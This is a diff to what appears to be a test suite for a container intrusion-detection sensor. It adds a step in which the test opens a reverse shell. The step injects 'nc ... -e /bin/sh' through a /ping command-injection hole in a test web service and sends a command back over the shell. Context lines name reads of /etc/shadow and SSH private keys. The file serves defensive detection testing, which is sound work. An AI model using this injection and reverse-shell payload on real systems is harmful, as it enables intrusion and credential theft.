@@ -102,6 +102,8 @@ SAID = {
                               "Secrets read: /etc/shadow in container {service}; /root/.ssh/id_rsa in container {db}."], []),
     "a11-impact": ([], ["Planted", "Secrets read", "Sent out"]),
 }
+# What the end of A1 is told by, beside the attack itself.
+CALLED_HOME = {"Standard input or output put on a network connection"}
 # The sensor is killed (SIGKILL) directly after the last act of these, and their containers with it.
 SENSOR_KILLED = {"a3-code-injection", "a6-rootkit", "a8-exfiltration", "a9-hijack-and-kill"}
 # Attack: (what its policy says, kind of container, what is done until the policy acts, what is tried then). It may touch /ctl/trace, a file of the node or {host}:{port}: none of it may be there afterwards.
@@ -221,9 +223,31 @@ class World:
                 send(s, *r)
                 receive(s)
                 s.close()
-            self.web_incident = self.wait(victim.name, lambda i: {"Program run by a web attack", "Connection made by a web attack"} <= self.rules(i))
+            self.call_home(victim)
+            self.web_incident = self.wait(victim.name, lambda i: {"Program run by a web attack", "Connection made by a web attack", *CALLED_HOME} <= self.rules(i))
         finally:
             victim.close()
+
+    def call_home(self, victim):
+        """A1's end: through the hole a shell whose input and output are a connection to the attacker, who gives it a command."""
+        host = self.docker.subnet.replace(".0/24", ".1")
+        with socket.create_server((host, 0)) as server:
+            server.settimeout(30)
+            s = victim.connect()
+            send(s, "GET", "/ping?host=" + urllib.parse.quote(f"127.0.0.1;nc {host} {server.getsockname()[1]} -e /bin/sh"), {}, "")
+            shell, _ = server.accept()
+            with shell:
+                shell.settimeout(30)
+                shell.sendall(b"echo it is $((6*7))\n")
+                got = b""
+                while b"it is 42" not in got:
+                    more = shell.recv(4096)
+                    assert more, got
+                    got += more
+                shell.sendall(b"exit\n")
+                self.home = f"{host}:{server.getsockname()[1]}"
+            receive(s)
+            s.close()
 
     def twins(self):
         names = [self.name("twins", c) for c in "ab"]
@@ -487,6 +511,10 @@ def test_web_attacks_are_one_incident_with_what_they_did(world):
     assert any("cat /etc/shadow" in line["output"] for line in web), [line["output"] for line in web]
     assert [x["id"] for x in world.list(container=world.web_name)] == [i["id"]]
     # what was sent, as it came
+    home = [line for line in i["timeline"] if line["rule"] in CALLED_HOME]
+    assert home and all(world.home in line["output"] for line in home), home
+    sealed = wait_for(lambda: (lambda found: (len(found) == 1, found))([e for e in world.evidence(i, kind="stream") if e["path"] == world.home]), 40, "what was said over the shell is evidence")
+    assert "it is 42" in world.data(sealed[0]).decode().split("got: ")[0], world.data(sealed[0])
     kept = {e["path"].split("?")[0]: world.data(e).decode() for e in world.evidence(i, kind="request")}
     assert kept["/ping"].startswith("GET /ping?host=127.0.0.1") and "cat%20/etc/shadow" in kept["/ping"], kept
 
